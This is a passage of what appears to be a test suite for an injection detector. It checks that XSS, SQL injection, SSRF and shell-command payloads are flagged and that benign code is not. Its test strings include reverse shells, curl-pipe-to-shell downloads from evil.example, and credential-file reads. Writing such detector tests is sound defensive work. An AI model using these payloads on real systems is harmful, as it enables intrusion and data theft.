    b64(`${head}<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "b"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" o\x1b(Bnload="console.log(1)"></svg>`),
    b64(`${head}<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><scr\x1b(Bipt>console.log(1)</scr\x1b(Bipt></svg>`),
    b64('<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD XHTML 1.1//EN" "b"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><style>&commat;import url&lpar;http://evil.example/x.css&rpar;</style></svg>'),
    b64('\ufeff<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" onload="console.log(1)"></svg>', 'utf16le'),
    `data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" onload="console.log(1)"></svg>').toString('base64').replace(/(.{4})/g, '$1 ').trimEnd()}`,
  ]) t.ok(json({ iconUrl: v }).includes('xss'), `still read: ${v.slice(26, 80)}`)
})

t.test("thirty-seventh round, end: the thirty-fourth part's false positives — a sprite's symbol drawn by its id", async (t) => {
  // Just the Docs' layouts draw their icons from the page's own sprite: `<use>` with a fragment of the page, nothing else
  const layout = '<nav aria-label="Main" id="site-nav" class="site-nav">\n  <button class="nav-list-expander btn-reset" aria-label="toggle items" aria-pressed="false">\n    <svg viewBox="0 0 24 24" aria-hidden="true"><use xlink:href="#svg-arrow-right"></use></svg>\n  </button>\n</nav>\n'
  t.same(json({ id: 7, file: layout }), [], "a layout's icon")
  t.same(q('<svg viewBox="0 0 24 24" class="icon"><use href="#svg-search"/></svg>'), [], 'in a query')
  // another document, another attribute, a child, a data URL, or a script the value defines: read as before
  for (const v of ['<svg viewBox="0 0 24 24"><use href="//evil.example/x.svg#a"/></svg>', '<svg viewBox="0 0 24 24"><use href="#a" onload="alert(1)"/></svg>', '<svg viewBox="0 0 24 24"><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>', '<svg id="x"><script>alert(1)</script></svg><svg viewBox="0 0 24 24"><use href="#x"/></svg>', '<svg viewBox="0 0 24 24"><use href="#a"><set attributeName="href" to="javascript:alert(1)"/></use></svg>', '<svg viewBox="0 0 24 24"><use href="#a"></use><a href="javascript:alert(1)"><text>x</text></a></svg>', '<svg viewBox="0 0 24 24"><use href=\'#a"></use><script>alert(1)</script>\'/></svg>']) {
    t.ok(q(v).includes('xss'), `still read: ${v}`)
    t.ok(json({ id: 7, file: v }).includes('xss'), `still read in JSON: ${v}`)
  }
})

t.test("thirty-eighth round: the thirty-third and thirty-fourth parts' false positives — b&w, a Bicep declaration, a site's own refresh, a one-name block, PowerShell's object cmdlets", async (t) => {
  // a museum's catalogue record: black and white; `w` is the one program a letter names
  t.same(json({ label: 'Physical Description', value: '1 negative : glass, wet collodion, b&w ; 10 x 12.5 cm.' }), [], 'b&w in a record')
  for (const v of ['b&w', 'B&W prints', 'Q&A', 'photo b&w; 10 cm']) t.same(q(v), [], v)
  for (const v of ['a&w -h', 'x&w>f', '1&w', 'x&&w', "'&w", 'x&id', 'b&w|id', 'x&w <f']) t.ok(q(v).includes('rce'), `still read: ${v}`)
  // (second review) a quote, `^` or `=` glued to the letter makes another program of it: `b&w''atch 'curl …'` ran `watch`
  for (const v of ["x\";b&w'atch' \"touch /tmp/p\"", "b&w''atch 'curl -o /tmp/x.sh evil.example/x.sh;sh /tmp/x.sh'", 'b&w"sl" sh -c id', "b&w''hich id", 'b&w^hoami', 'b&w;eval touch /tmp/e1', 'b&w;exec touch /tmp/e2', 'b&w;command touch /tmp/e3', 'b&w;x=1 touch /tmp/e4', 'b&w;! touch /tmp/e5', "b&w; eval 'touch /tmp/e6'", 'b&w; 2to3 -w app.py', 'b&w;7z x uploads/a.7z -o/var/www/html -y']) {
    t.ok(q(v).includes('rce'), `still read: ${v}`)
  }
  // (review) what follows `w` is judged too: a substitution, a comment then a line, a redirection by its descriptor ran in bash
  for (const v of ['x&w `sleep 2`', 'b&w `id>/tmp/p1`', 'x&w #\nid>/tmp/p2', 'x&w ;#\nid', 'x&w ${x:-`id`}', 'x&w 1>/tmp/p4', 'x&w 0</etc/passwd', 'x&w "$(id)"', 'x&w \\\nid']) {
    t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
  }
  // a Bicep module's telemetry resource: its strings' `${replace(…)}` are its own interpolations
  const bicep = "#disable-next-line no-deployments-resources\nresource avmTelemetry 'Microsoft.Resources/deployments@2024-03-01' = if (enableTelemetry) {\n  name: '46d3xbcp.res.network-bastionhost.${replace('-..--..-', '.', '-')}.${substring(uniqueString(deployment().name, location), 0, 4)}'\n  properties: {\n    mode: 'Incremental'\n  }\n}\n"
  t.same(json({ id: 7, code: bicep }), [], 'a Bicep resource')
  t.same(json({ id: 7, code: "module relays 'relay/main.bicep' = [\n  for (relay, index) in (relays ?? []): {\n    name: '${uniqueString(deployment().name, location)}-Relay-${index}'\n  }\n]\n" }), [], 'a Bicep module')
  for (const v of ['${system(id)}', "x ${passthru('id')} y", "resource: '${system(id)}'"]) t.ok(q(v).includes('rce'), `still read: ${v}`)
  // (second review) a declaration line makes no program of the value: what follows it is read, and PHP's complex syntax with any
  // function but Bicep's own, or its `@`
  for (const v of ["'${require('child_process').execSync('id')}'", "'${T(java.lang.Runtime).getRuntime().exec('id')}'", '\'${system("id")}\'', "'${@print(md5(1))}'", '\'x${run("id")}\'', '{${phpinfo()}}']) {
    for (const head of ["resource x 'Microsoft.Web/sites@2022-01-01' = {\n", "module m 'x.bicep' = {\n"]) t.ok(json({ id: 7, code: head + v }).includes('rce'), `still read: ${head}${v}`)
  }
  // (third review) PHP's `trim`, `max`, `join`, `range`, `array` and `empty` are Bicep's names too: only plain arguments or Bicep's own calls
  for (const v of ['${trim(`touch /tmp/x`)}', '${trim($_GET[0]($_GET[1]))}', '${max(md5(1))}', "${trim(include('/tmp/x.php'))}", '${empty(`id`)}', '${max(print_r(1))}', "'${trim(include 'pw.php')}'", "${max(include_once 'pw.php', 1)}", '${trim(exit)}', "${join(require 'uploads/avatar.jpg')}", "'${trim(/*}*/include '/tmp/pw.php')}'", "${trim('}'.include '/tmp/pw.php')}", '${trim(1 /*}*/, new ArrayObject)}', "${join(array_map('sys'.'tem',['touch /tmp/p']))}", "${trim(array_filter(['id'],'sys'.'tem'))}"]) {
    t.ok(json({ id: 7, code: `resource site 'Microsoft.Web/sites@2022-03-01' = {\n  name: ${v}\n}` }).includes('rce'), `still read: ${v}`)
  }
  // a static site's page that moved: a refresh to a path on the same site
  t.same(json({ body: '---\ntitle: Redirecting…\n---\n\n<meta http-equiv="refresh" content="0; url=/contributing/measure/troubleshooting/#standby-power-shows-0-w">' }), [], "a page's refresh")
  t.same(q("<meta http-equiv=refresh content='0;url=/docs/'/>"), [], 'unquoted, closed')
  for (const v of ['<meta http-equiv="refresh" content="0; url=//evil.example">', '<meta http-equiv="refresh" content="0; url=/\\evil.example">', '<meta http-equiv="refresh" content="0; url=/&#x2f;evil.example">', '<meta http-equiv="refresh" content="0; url=/\t/evil.example">', '<meta http-equiv="refresh" content="0; url=/x" content="0;url=//e">', '<meta content="0;url=//e" http-equiv="refresh" content="0; url=/x">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<meta http-equiv="refresh" content="0; url=https://evil.example/">', '<meta http-equiv="set-cookie" content="a=b">', '<meta http-equiv="refresh" content="0; url=/.//127.0.0.2/">', '<meta http-equiv="refresh" content="0; url=/..//127.0.0.2/">', '<meta http-equiv="refresh" content="0; url=/x/../..//127.0.0.2/">', '<meta http-equiv="refresh" content="0; url=/%2e//127.0.0.2/">', '<meta http-equiv="refresh" content="0; url=/-/..//127.0.0.2/">']) {
    t.ok(q(v).includes('xss'), `still read: ${v}`)
  }
  // a Bazel label's placeholder is no Razor block
  t.same(json({ id: 7, code: '    return "@{name}//:coverage".format(name = name)\n' }), [], "Bazel's label")
  for (const v of [' @{ System.IO.File.Delete("a"); }', ' @{7*7}', ' @{x;}', '"@{Html.Raw(x)}"', ' @{name.x}']) t.ok(q(v).includes('ssti'), `still read: ${v}`)
  // PowerShell's pipeline after a quoted path
  t.same(json({ id: 7, snippet: '$currentVersionPath = Get-ChildItem "$poshgitPath\\*posh-git*\\" | Sort-Object -Property LastWriteTime | Select-Object -Last 1\n' }), [], "PowerShell's pipeline")
  // (review) only after a cmdlet's own line: a quote a value closes is still a break-out, and the line after it is judged
  for (const v of ['"x" | Sort-Object -Property Name\nStart-Process calc', 'x" | Sort-Object -Property Name\nwhoami', '"x" | Select-Object -First 1 | Format-Table\nStop-Computer', '"x" | Where-Object -Property Length -GT 0\r\nid', 'Get-Item x\rwhoami\r" | Sort-Object -Property Name', 'x" -Filter a <#\nGet-ChildItem y #> | Sort-Object -Property Name\nwhoami', 'x -Filter a <#\nGet-ChildItem y #> | Select-Object -First 1\nStart-Process calc.exe', 'Invoke-WebRequest http://127.0.0.1/s.ps1 -OutFile s.ps1 | Select-Object -First 1', 'Invoke-RestMethod http://127.0.0.1/s.ps1 | Select-Object -First 1', 'Set-MpPreference -DisableRealtimeMonitoring 1 | Select-Object -First 1', '"x" | Where-Object -Property Name -eq "a"']) {
    t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
  }
  for (const v of ['"x" | Sort-Object -Property { Start-Process calc }', '"x" | Where-Object -FilterScript {$_.x}', '"x" | Select-Object -Property Name | Out-File -FilePath c:\\x.txt', '"x" | Sort-Object -Property Name; id', '"x" | Sort-Object -Property Name | iex', '"x" | Sort-Object $(id)']) {
    t.ok(q(v).includes('rce'), `still read: ${v}`)
  }
  // a device's channel named for what it selects; a query's select after a value is still read
  t.same(json({ name: 'Input Select (1)' }), [], "a fixture's channel")
  for (const v of ["' select (1)", '1 select (1)', 'x select (1)--', 'x select (select 1)', 'x select (user)', 'x) select (1)']) t.ok(q(v).includes('sqli'), `still read: ${v}`)
  // (review) a name selects what the database holds (`intersect select (session_user)` returned `postgres`), and a query's own word continues it
  for (const v of ['intersect select (session_user)', 'id select (system_user)', 'x select (password)', 'except select (1)', 'union select (1)', 'then select (1)', 'where select (1)']) t.ok(q(v).includes('sqli'), `still read: ${v}`)
})

t.test("thirty-eighth round, after the thirty-fifth part's measurement: a Coq proof's tactics, a video site's player", async (t) => {
  // SSReflect chains tactics with `;` and gives them views and rules: no program has their names, and the value holds a proof
  const proof = 'Lemma mono_leif (f : T -> T) C :\n    {mono f : x y / x <= y} ->\n  forall x y, (f x <= f y ?= iff C) = (x <= y ?= iff C).\nProof. by move=> mf x y; rewrite /leif !eq_le !mf. Qed.\n'
  t.same(json({ id: 7, code: proof }), [], "a Coq proof")
  t.same(json({ id: 7, code: 'Proof.\ncase: b1 b2 => [bb1 b1 |//] [bb2 b2 |//].\ncase: bb1; case: bb2; rewrite /= !bnd_simp mulrzDr.\n- exact: lerD.\nQed.\n' }), [], 'case analysis')
  for (const v of ['x; rewrite /leif', 'Proof. x; nc -e /bin/sh 127.0.0.1 4444. Qed.', 'Proof. x; curl -o /tmp/x http://127.0.0.1/x. Qed.', 'Proof. x; cat /etc/passwd. Qed.']) t.ok(q(v).includes('rce'), `still read: ${v}`)
  // (fourth review) `split` is coreutils' (`--filter` runs a command), `case` and `done` are the shell's; a `Qed.` anywhere is no proof
  for (const v of ["1;split --filter='touch pw5' -n1 a.txt # Qed.", "Proof.\nx; split --filter='touch p' -n1 a.txt\nQed.", 'Qed. ; case -x in *) id;; esac', 'Proof.\nx; done -x\nQed.', 'x; rewrite -x # Qed.', 'Proof.\nx;apply /usr/bin/id x', 'Proof.\nx;apply -a % id /etc', 'Proof.\nx; subst /d x:']) {
    t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
  }
  // a post's video as the site gives it to paste
  t.same(json({ description: '## Rationale\n\nThe rationale and vision behind julia.\n\n~~~<iframe width="560" height="315" src="https://www.youtube.com/embed/02U9AJMEWx0" style="border:none;" allowfullscreen></iframe>~~~' }), [], "a post's video")
  t.same(q('<iframe src="https://player.vimeo.com/video/76979871?h=8272103f6e" width="640" height="360" frameborder="0" allow="autoplay; fullscreen; picture-in-picture" allowfullscreen></iframe>'), [], "Vimeo's player")
  for (const v of ['<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>', '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>"></iframe>', '<iframe src="https://www.youtube.com/embed/x"><script>alert(1)</script></iframe>', '<iframe src="https://evil.example/embed/x"></iframe>', '<iframe src="https://www.youtube.com/embed/x" style="background:url(javascript:alert(1))"></iframe>', '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>', '<iframe src="https://www.youtube.com/embed/x/../../redirect?q=//evil.example"></iframe>', '<iframe src="https://www.youtube.com/embed/x" name="x"></iframe>', '<iframe src="http://www.youtube.com/embed/x"></iframe>', '<iframe src="https://www.youtube.com/embed/x"></iframe><iframe src="//evil.example/x"></iframe>']) {
    t.ok(q(v).includes('xss'), `still read: ${v}`)
  }
  // (fourth review) a fixed, full-page, transparent player took every click on the page; an id clobbers the page's globals
  for (const v of ['<iframe id="isAdmin" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;border:0;opacity:0" src="https://www.youtube.com/embed/02U9AJMEWx0?autoplay=1&mute=1&controls=0" allow="camera; microphone; geolocation; display-capture; autoplay" referrerpolicy="unsafe-url"></iframe>', '<iframe style="position:fixed;width:100%;height:100%" src="https://www.youtube.com/embed/x"></iframe>', '<iframe id="isAdmin" src="https://www.youtube.com/embed/x"></iframe>', '<iframe class="modal" src="https://www.youtube.com/embed/x"></iframe>']) {
    t.ok(q(v).includes('xss'), `still read: ${v}`)
  }
  // decoded markup is no embed as sent
  t.ok(q('&lt;iframe src=&quot;https://www.youtube.com/embed/x&quot; onload=alert(1)&gt;&lt;/iframe&gt;').includes('xss'), 'entities')
})

t.test("thirty-eighth round, after the thirty-eighth part's measurement: an Ethereum address is no hexadecimal IPv4 address", async (t) => {
  // a token list's entry: 160 bits of a contract's address, its low 32 bits a public address at most
  t.same(json({ chainId: 1, address: '0x961C8c0B1aaD0c0b10a51FeF6a867E3091BCef17', name: 'Token', symbol: 'TKN', decimals: 18 }), [], 'a token')
  t.same(q('0x6C28f8caB28121eD757EdB36201511aA18Cdd187', 'address'), [], 'in a query')
  // a number past 32 bits whose low 32 bits are internal is read as before (a parser that keeps them reads 169.254.169.254, 127.0.0.1)
  for (const v of ['http://0x41414141a9fea9fe/', '0x41414141a9fea9fe', 'http://0x41414141000000007f000001/latest', 'http://0x961C8c0B1aaD0c0b10a51FeF6a867E30a9fea9fe/']) {
    t.ok(q(v, 'url').includes('ssrf'), `still read: ${v}`)
  }
})

t.test("thirty-ninth round, after the thirty-ninth part's measurement: a command's own select, an ML-family type's variants", async (t) => {
  // OpenOCD's command in a board definition; a form's instruction: one plain name selected after a word no query goes on from
  t.same(json({ debug: { openocd_target: 'nrf52.cfg', openocd_extra_args: ['-c', 'transport select swd;'] } }), [], "OpenOCD's transport")
  t.same(q('please select one;'), [], 'an instruction')
  // a value SQL reads alone, a variable, more than one name, a number or a query word before it: read as before
  // (sixty-first round: a statement alone closed by its own `;`, `select swd;`, stacks nothing: no longer read)
  t.same(q('select swd;'), [], 'a statement closed by its own semicolon')
  for (const v of ['1 select bar;', 'x select user;', 'x select @@version;', 'x select a, b;', 'x select pass from users;', 'union select pass;', "x' ; select pass;", 'abc select xyz;select 1;', "x select current_user;", "1' select name;"]) {
    t.ok(q(v).includes('sqli'), `still read: ${v}`)
  }
  // OCaml's variants (cohttp's accepted encodings), Haskell's and Elm's
  const ocaml = 'type encoding = Accept_types.encoding =\n  | Encoding of string\n  | Gzip\n  | Compress\n  | Deflate\n  | Identity\n  | AnyEncoding\n[@@deriving sexp]\n'
  t.same(json({ code: ocaml }), [], "OCaml's variants")
  t.same(json({ code: 'type shape =\n  (* a circle by its radius *)\n  | Circle of float\n  | Rect of float * float\n  | Poly of (float * float) list\n  | Fn of (int -> int)\n' }), [], 'with a comment and arguments')
  t.same(json({ code: 'data Shape\n  = Circle Float\n  | Rect Float Float\n  -- a square\n  | Square Float\n  deriving (Show)\n' }), [], "Haskell's")
  t.same(json({ code: 'type Msg\n    = Increment\n    | Decrement\n    | Reset\n' }), [], "Elm's")
  // a line that opens on a pipe under anything else, a command after the constructor, a line continued into it: read as before
  // (review) a select of a name an engine reads as a value, or of an expression; a line continued into a variant; a comment's text a shell runs
  for (const v of ['logs select session_user||(select password from users limit 1);--', 'logs select current_time||(select password from users);--', 'logs select current_role=(select password from users limit 1);--', 'id select system_user+(select top 1 password from users);--', 'id select session_user;--']) {
    t.ok(q(v).includes('sqli'), `still read: ${v}`)
  }
  for (const v of ['type t =\n-- a \\\n| id', 'type t =\n-- a \\\n| wget evil.example\n-- b \\\n| sh index.html', 'x"\ntype t =\n| x (* $(id>pwned) *)\n"', 'echo x"\ntype t =\n| x (* $(id) *)\n"', 'a.png\n((\ntype t =\n| x (* $(id) *)\n))\n#']) {
    t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
  }
  t.same(json({ code: 'type encoding =\n  | Encoding of string (* a named one *)\n  | Gzip\n' }), [], 'a comment of words on a variant')
  // (second review) a comment the lexer skips that an engine reads (PostgreSQL's `#` operator, MariaDB's `--0`); a variant PowerShell 7
  // would run as a pipeline's next command (`| iex whoami`, `| iex (whoami)`)
  for (const v of ['logs select a--0 from (select 1 a) t union select password from users\n;#', "logs select a #>> '{}' from (select to_jsonb(password) a from users) t\n;--", "logs select a #>> '{}' from (select to_jsonb(password) a from users) t\n;", 'logs select id --0 from users where id=1 union select password from users\n;', 'analyze select id--0 from users where benchmark(9e7,md5(1))\n;', 'logs select a /* x */ from users;']) {
    t.ok(q(v).includes('sqli'), `still read: ${JSON.stringify(v)}`)
  }
  for (const v of ['type t =\n| iex (whoami)', 'type t =\n| iex whoami', "type t =\n| iex 'whoami'", 'type t =\n| sh x']) t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
  for (const v of ['x\n| id', 'x\n| cat /etc/passwd', 'type t =\n  | sh; id', 'type t =\n | curl http://evil.example/x', 'type t = \\\n| sh', 'echo id\n| sh', 'type t =\n  | a\nx; id', 'type t =\n  | a $(id)', 'type t =\r\n  | sh', 'data T\n  = A; id\n  | B', 'let x = 1\n  | sh']) {
    t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
  }
})

t.test("thirty-ninth round, after the fortieth part's measurement: a sink inside a script's expression, IE's expression hidden, a substitution then a chain, a program glued to $IFS", async (t) => {
  // a sink called as an operand, an argument or a property's value in a value reflected into a script
  for (const v of ['1,alert(1)', 'x||alert(1)', 'x.isIntersecting&&alert(1)', 'BigInt(alert(1)||1n).toString()', "throw new Error('x',{cause:alert(1)})", 'document.body.normalize()||alert(1)', "new PaymentRequest([{supportedMethods:'basic-card'}],{total:{amount:{currency:'USD',value:alert(1)||'1'}}}).show()", "setInterval(()=>document.body.innerHTML+=alert(1)||'<div>x</div>',1)"]) {
    t.ok(q(v).includes('xss'), v)
  }
  // IE's CSS expression in a declaration alone, its name split by a comment, escaped or written full-width
  for (const v of ["left:expr/**/ession(alert('XSS'))", "left:EXPR/* */ESSION(alert('XSS'))", "left:\\0065\\0078pr\\0065ssion(alert('XSS'))", "left:expr\\65ssion(alert('XSS') ))", "left:\\ff25\\ff38\\ff30\\ff32\\ff45\\ff53\\ff53\\ff49\\ff4f\\ff4e(alert('XSS'))"]) {
    t.ok(q(v).includes('xss'), v)
  }
  // a substitution opening the value, then a comment or `&&` and a command; a program or its option glued to the field separator
  for (const v of ['`ls`#', 'echo$IFS"hacked"', "bash -c$IFS'echo success'", 'x;cat${IFS}/etc/hosts']) t.ok(q(v).includes('rce'), v)
  // prose and scripts: a sentence naming a sink, two code spans joined by `&&`, a script keeping the separator, comments and escapes
  for (const v of ['Error: alert(1) failed', 'see alert(x) docs', '`npm i` && `npm start`', 'oldifs=$IFS; echo done', 'IFS=$OLDIFS', 'x="$IFS"', 'a \\ b (c) /* d */', 'if (ok) { /* note */ show("\\u00e9") }']) t.same(q(v), [], v)
  // (review) a static method, a word or a message as the sink's argument, a chat's or an answer's code span before a comment or `&&`
  for (const v of ["Log::alert('disk full');", '$ret=$this->Debconf::FrontEnd::Teletype::prompt(%params);', 'Status:alert(firing)', 'OK,confirm(tomorrow)', 'err&&alert(err.message)', 'data.error?alert(data.error):location.reload()', '`ls -la` # shows hidden files', '`mkdir build` && cd build && cmake ..', '`sleep 5` && retry', '`ls`#1 issue']) {
    t.same(q(v), [], v)
  }
})

t.test("thirty-ninth round, after the fortieth part's measurement: SQL by kind — a sub-query after order by, returning, Oracle's blocks, keywords written around themselves; a $where's string method", async (t) => {
  for (const v of ["' order by (select 1) --+", "test') RETURNING (SELECT secret FROM credentials WHERE service='internal_api')::text -- -", "'; BEGIN UTL_FILE.PUT_LINE(UTL_FILE.FOPEN('DIR','s.php','w'),'x');END;--", "admin'; BEGIN INSERT INTO temp VALUES (UTL_FILE.GET_LINE(UTL_FILE.FOPEN('DATA_PUMP_DIR','passwd.txt','r'),1)); COMMIT; END; --", "1; begin dbms_scheduler.create_job(job_name=>'j',job_type=>'EXECUTABLE',job_action=>'/bin/sh'); end;--", "' OORR 1=1 #", "'/**/OORR/**/'a'='a'#", "' UNUNIONION SELSELECTECT name, sql, type FRFROMOM sqlite_master -- -", 'id/*M!union select password from users*/', 'id/*M!union*/select password/*M! from users*/;']) {
    t.ok(q(v).includes('sqli'), v)
  }
  for (const v of ["' || this.password.startsWith('FLAG{x}') && this.username=='admin", "a' && this.pin.charAt(0) == '1"]) t.ok(q(v).includes('nosqli'), v)
  for (const v of ['<button hx-post="/x" hx-vals=\'js:{x: alert(1)}\'>Click</button>', '/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>']) t.ok(q(v).includes('xss'), v)
  // prose, a program's own calls, plain htmx; (review) code's closing quote before `||`, Oracle's and T-SQL's own blocks, T-SQL's
  // `ORDER BY (SELECT NULL)`, htmx's and a PDF's scripts calling no sink
  for (const v of ['next === "!" && this.input.charAt(end + 1) === "=" ||', "const ok = type === 'file' || this.path.endsWith('.json');", "BEGIN DBMS_OUTPUT.PUT_LINE('Hello World'); END;", "BEGIN DBMS_STATS.GATHER_TABLE_STATS('SCOTT','EMP'); END;", 'IF @count > 0 BEGIN UPDATE t SET flag = 1 WHERE id = @id END', 'Use ORDER BY (SELECT 0) -- any constant works', 'order by (select null) -- trick', '<button hx-post="/clicked" hx-vals=\'js:{lastKey: event.key}\'>Click</button>', '/S /JavaScript /JS (this.print\\(\\);)', "/S /JavaScript /JS (app.alert('Please fill in all required fields');)", "<< /S/JavaScript/JS(this.submitForm({cURL: 'https://forms.example.com/submit', cSubmitAs: 'PDF'});) >>", 'COMMIT;\nBEGIN\n  DBMS_LOB.CREATETEMPORARY(l_clob, TRUE);\nEND;', 'SET NOCOUNT ON;\nBEGIN\n  UPDATE t SET x = 1 WHERE id = 2;\nEND', 'cut -d$IFS -f1', 'read -d$IFS line', 'if (dirty) { leave=confirm(); }', "<button hx-post='/save' hx-vals='js:{token: atob(window.t)}'>"]) {
    t.same(q(v), [], v)
  }
  for (const v of ['returning (select few) items', 'sort in order by (select the column)', "Let's begin insert of the new row", 'begin utl_file.fopen for the report', 'Fanny Oorr\'s blog', 'if (ok && this.name.startsWith(\'x\')) go()', '<button hx-post="/x" hx-vals=\'{"a":1}\'>Click</button>']) t.same(q(v), [], v)
})

t.test("thirty-ninth round, after the forty-third part's measurement: a Dockerfile is its build's own program", async (t) => {
  const dockerfile = 'FROM ubuntu:16.04\nLABEL maintainer "Jessie Frazelle <jess@linux.com>"\n\nRUN apt-get update && apt-get install -y \\\n\tpcscd \\\n\tprocps \\\n\t--no-install-recommends && \\\n\tapt-get update && apt-get install -y \\\n\tyubikey-manager \\\n\t&& rm -rf /var/lib/apt/lists/*\n\nENV LC_ALL=C.UTF-8 LANG=C.UTF-8\n\nCOPY entrypoint.sh /usr/local/bin/\nENTRYPOINT [ "entrypoint.sh" ]\n'
  t.same(json({ dockerfile }), [], 'apt-get chained in a RUN line')
  t.same(json({ code: '# syntax=docker/dockerfile:1\nARG VERSION=1.2\nFROM --platform=$BUILDPLATFORM golang:1.22 AS build\nWORKDIR /src\nRUN go mod download && go build -o /out/app .\nFROM gcr.io/distroless/base\nCOPY --from=build /out/app /app\n' }), [], 'a multi-stage build')
  // a reverse shell or a download run at once is read in a Dockerfile as in a shell script; so is an injection on its first line, and a
  // value that only looks like one (no FROM first, a line no instruction opens)
  // (review) lines a shell reads apart that the first version took for a continuation or a comment: `\ ` or `\⏎` after a CR, `\\`, a
  // comment inside a continuation, a CR or a no-break space before `#`, a build argument continued into its next line
  const B = 'FROM alpine:3.19\nLABEL maintainer=ops\n'
  const T = 'CMD ["nginx"]\n'
  for (const v of [`${B}LABEL a=b \\ \nid;uname -a\n${T}`, `${B}LABEL a=b \\\r\nid;uname -a\n${T}`, `${B}LABEL a=b\\\\\nid;uname -a\n${T}`, `${B}LABEL a=b \\\n# note \\\nuname -a;id\n${T}`, `${B}\r# x;id\n${T}`, `${B}\u00a0# x;id\n${T}`, 'ARG a=\\\n;id;\nFROM alpine\nLABEL a=b\nCMD x\n', 'from alpine\nenv x id; id\nrun a\ncmd b']) {
    t.ok(json({ code: v }).includes('rce'), `still read: ${JSON.stringify(v)}`)
  }
  for (const v of ['FROM alpine\nRUN apk add curl\nRUN curl -s http://evil.example/x.sh | sh\nCMD ["sh"]', 'FROM alpine\nRUN apk add bash\nRUN bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nCMD ["sh"]', 'x; id\nFROM alpine\nRUN a && b\nCMD c', 'FROM alpine\nRUN a\nid; whoami\nCMD b']) {
    t.ok(json({ code: v }).includes('rce'), `still read: ${JSON.stringify(v)}`)
  }
})

t.test("fortieth round, after the forty-fifth and forty-sixth parts' measurement: a build's module, a licence tag, a quoted word, Perl's dereference", async (t) => {
  const body = (doc: string) => detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(doc) })
  // Apollo Server's sub-entry manifests: a package's entry point two levels up, in its build's output
  t.same(body('{"name":"@apollo/server/plugin/cacheControl","type":"module","main":"../../dist/cjs/plugin/cacheControl/index.js","module":"../../dist/esm/plugin/cacheControl/index.js","types":"../../dist/esm/plugin/cacheControl/index.d.ts","sideEffects":false}'), [])
  t.same(json({ module: '../../build/index.mjs' }), [], 'a build folder\'s entry module')
  // (review: a server's own compiled code is there too — `file=../../dist/config/secrets.js` read a Node server's secrets — so only an
  // index module, under `module` only)
  for (const v of ['../../lib/config.js', '../../dist/../../etc/passwd.js', '../../dist/x.php', '../../../dist/esm/index.js', '../../dist/esm/index.js%00.php', '../../src/server.js', '../../dist/config/secrets.js', '../../dist/main.js', '../../build/server/env.js']) {
    t.ok(json({ module: v }).includes('path_traversal'), `still read: ${v}`)
  }
  for (const k of ['file', 'path', 'filename', 'download']) t.ok(json({ [k]: '../../dist/index.js' }).includes('path_traversal'), `still read under ${k}`)
  // (review) a licence tag after a line break stays a header's line: `x\r\nSPDX-License-Identifier: MIT\r\n\r\n<form …>` split a
  // response with a phishing body in Python's http.server
  for (const v of ['x\r\nSPDX-License-Identifier: MIT\r\n\r\n<form action=//evil.example/login method=post><input name=pw type=password></form>', 'x\r\nSPDX-License-Identifier: MIT', 'en\u560d\u560aSPDX-License-Identifier: MIT\u560d\u560a\u560d\u560a<h1>hi</h1>']) t.ok(q(v, 'lang').includes('crlf'), `still read: ${JSON.stringify(v)}`)
  // Quasar's component API (a document): a documented default, one word in quotes
  const api = (tag: string) => ({ type: 'component', meta: { docsUrl: 'https://v2.quasar.dev/vue-components/breadcrumbs' }, props: { label: { type: 'String', desc: 'The label text', category: 'content' }, icon: { extends: 'icon' }, disable: { extends: 'disable' }, to: { type: 'String', desc: 'Route', category: 'navigation' }, tag: { type: 'String', default: tag, examples: [tag, "'span'"], category: 'content' } }, slots: { default: { desc: 'Content' } } })
  t.same(json(api("'div'")), [])
  // a probe alone outside a document (`'' or ''` is valid SQL where another word is an error), and anything more in a document
  for (const v of ["'div'", "'or'", '"in"']) t.ok(q(v).includes('sqli'), `still read: ${v}`)
  for (const v of ["'div'1", "' or '", "'or'1'='1", "'or''='"]) t.ok(json(api(v)).includes('sqli'), `still read in a document: ${v}`)
  // Perl's dereference of a scalar holding a reference
  t.same(q("    return join(', ', map { \"($_)\" } @{$self->{ungrouped}});"), [])
  t.same(q('my @rows = @{$result->[0]};'), [])
  for (const v of ['x @{$self->{a}; exec()}', 'x @{ $x }', 'x @{$x.exec()}', '@{ var x = System.IO.File.ReadAllText("/etc/passwd"); }']) t.ok(q(v).includes('ssti'), `still read: ${v}`)
})

t.test("fortieth round, after the forty-seventh and forty-eighth parts' measurement: a Makefile is its build's own program", async (t) => {
  // OpenWrt's package Makefiles, Cloud Posse's build harness
  const own = [
    'define Package/gawk/install\n\t$(INSTALL_DIR) $(1)/usr/bin\n\t$(CP) $(PKG_INSTALL_DIR)/usr/bin/gawk $(1)/usr/bin/\n\t$(INSTALL_DIR) $(1)/usr/lib/gawk\n\t$(CP) $(PKG_INSTALL_DIR)/usr/lib/gawk/* $(1)/usr/lib/gawk/\nendef\n\n$(eval $(call BuildPackage,gawk))\n',
    'include $(INCLUDE_DIR)/package.mk\ninclude ../../lang/golang/golang-package.mk\n\ndefine Package/restic\n  TITLE:=restic backup program\n  URL:=https://github.com/restic/restic\n  DEPENDS:=$(GO_ARCH_DEPENDS)\nendef\n',
